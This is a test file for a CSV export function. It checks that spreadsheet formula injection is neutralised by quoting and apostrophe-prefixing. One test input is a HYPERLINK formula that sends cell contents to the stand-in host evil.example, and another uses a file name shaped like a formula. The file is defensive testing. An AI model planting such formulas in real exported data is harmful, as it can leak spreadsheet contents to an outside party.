import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/report/csvCell.js';
import { statecraftIn } from '../helpers.js';

describe('CSV cells', () => {
  it('should keep a text a spreadsheet would run as a formula as text, and numbers as numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    for (const start of ['+', '-', '@', '\t']) expect(csvCell(`${start}SUM(A1:A9)`)).toBe(`'${start}SUM(A1:A9)`);
    expect(csvCell('-0.25'), 'a negative number written as text stays a number').toBe('-0.25');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell('plain, with a comma')).toBe('"plain, with a comma"');
    expect(csvCell('kurdistan_deal')).toBe('kurdistan_deal');
  });

  it('should write a session file named like a formula into batch CSV as text', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'statecraft-csv-'));
    const name = '=HYPERLINK(1).json';
    expect((await statecraftIn(dir, 'run', '--steps', 'advance', '--save', name)).code).toBe(0);
    const csv = (await statecraftIn(dir, 'batch', '--runs', '200', '--workers', '1', '--from', name, '--format', 'csv')).stdout;
    const row = csv.split('\n').find((l) => l.includes('HYPERLINK'));
    expect(row, 'the session is named in the provenance rows').toBeDefined();
    expect(row).not.toMatch(/(^|,)"?=HYPERLINK/);
    expect(row).toMatch(/(^|,)"?'=HYPERLINK\(1\)\.json/);
  });
});
